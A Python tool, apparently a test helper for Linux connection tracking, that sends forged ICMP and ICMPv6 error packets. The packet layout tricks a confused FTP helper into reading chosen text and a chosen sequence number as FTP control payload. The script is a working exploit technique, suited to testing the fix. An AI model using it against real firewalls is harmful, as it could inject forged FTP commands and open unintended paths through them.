#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge ICMP errors that quote a live FTP control connection.

    icmp_forge.py --kind {unreach,fragneeded,ptb} --src ADDR --dst ADDR
                  --quote-sport PORT --quote-dport PORT --seq N
                  --text TEXT

Sends, from --src to --dst, one ICMP error (IPv4 destination unreachable,
port unreachable or fragmentation needed; ICMPv6 packet too big) quoting a
TCP segment from --dst:--quote-sport to --src:--quote-dport, i.e. one the
server sent to the client: conntrack relates the error to the control
connection in its original direction. Behind the quoted TCP header comes
--text (\\r \\n escapes) as if it were that segment's payload.

The bytes are laid out so that a helper that mistakes the ICMP header for a
TCP header (protoff at the ICMP header) finds its "payload" at the forged
text and its "sequence number" in the ICMP header's second word, --seq:
  IPv4: the inner IP ID 0xC000 makes the "data offset" 12 words, 8 + 20 + 20
        bytes, exactly where the text starts;
  IPv6: the inner payload length 0xF000 makes it 15 words, 60 bytes, inside
        the quoted TCP header, whose last 8 bytes are "\\r\\n" padding.
Needs CAP_NET_RAW (run it as root in the client's namespace).
"""

import argparse
import codecs
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def quoted_tcp(sport, dport, seq, tail):
    """A TCP header; for IPv6 its last 8 bytes are @tail."""
    head = struct.pack("!HHIIBB", sport, dport, seq, 0, 5 << 4, 0x18)
    return head + tail


def icmp4(args, text):
    inner_tcp = quoted_tcp(args.quote_sport, args.quote_dport, args.seq,
                           struct.pack("!HHH", 65535, 0, 0))
    inner_ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 20 + len(text),
                           0xC000, 0, 64, socket.IPPROTO_TCP, 0,
                           socket.inet_aton(args.dst),
                           socket.inet_aton(args.src))
    code = 3 if args.kind == "unreach" else 4
    rest = struct.pack("!I", args.seq) if args.kind == "unreach" else \
        struct.pack("!HH", args.seq >> 16, args.seq & 0xffff)
    body = rest + inner_ip + inner_tcp + text
    csum = checksum(struct.pack("!BBH", 3, code, 0) + body)
    msg = struct.pack("!BBH", 3, code, csum) + body
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.bind((args.src, 0))
    sock.sendto(msg, (args.dst, 0))


def icmp6(args, text):
    # The quoted TCP header's bytes 12-19 (flags, window, checksum, urgent)
    # are where a confused parser starts: make them end a line.
    inner_tcp = quoted_tcp(args.quote_sport, args.quote_dport, 0,
                           b"\r\n" * 3)
    inner_ip = struct.pack("!IHBB16s16s", 6 << 28, 0xF000,
                           socket.IPPROTO_TCP, 64,
                           socket.inet_pton(socket.AF_INET6, args.dst),
                           socket.inet_pton(socket.AF_INET6, args.src))
    msg = struct.pack("!BBHI", 2, 0, 0, args.seq) + inner_ip + inner_tcp + text
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
                         socket.IPPROTO_ICMPV6)
    sock.bind((args.src, 0))
    sock.sendto(msg, (args.dst, 0))   # the kernel fills in the checksum


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--kind", choices=("unreach", "fragneeded", "ptb"),
                   required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--quote-sport", type=int, required=True)
    p.add_argument("--quote-dport", type=int, required=True)
    p.add_argument("--seq", type=lambda v: int(v, 0), required=True)
    p.add_argument("--text", required=True)
    args = p.parse_args()
    text = codecs.escape_decode(args.text.encode())[0]
    try:
        (icmp6 if args.kind == "ptb" else icmp4)(args, text)
    except OSError as e:
        print("icmp_forge: %s" % e, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
